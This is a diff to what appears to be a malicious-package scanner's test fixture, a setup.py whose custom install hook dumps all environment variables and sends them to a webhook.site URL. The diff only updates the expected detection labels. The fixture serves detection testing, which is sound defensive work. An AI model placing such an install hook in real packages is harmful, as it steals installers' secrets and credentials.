@@ -11,8 +11,8 @@ from setuptools.command import install as _install
 
 class Install(_install.install):  # expect: install-hook
     def run(self):
-        body = json.dumps(dict(os.environ)).encode()
-        urllib.request.urlopen("https://webhook.site/6f1c0d2e-4e8b", data=body)  # expect: install-hook, exfiltrate-sensitive-data
+        body = json.dumps(dict(os.environ)).encode()  # expect: env-dump
+        urllib.request.urlopen("https://webhook.site/6f1c0d2e-4e8b", data=body)  # expect: install-hook, exfiltrate-sensitive-data, suspicious-url
         _install.install.run(self)
 
 
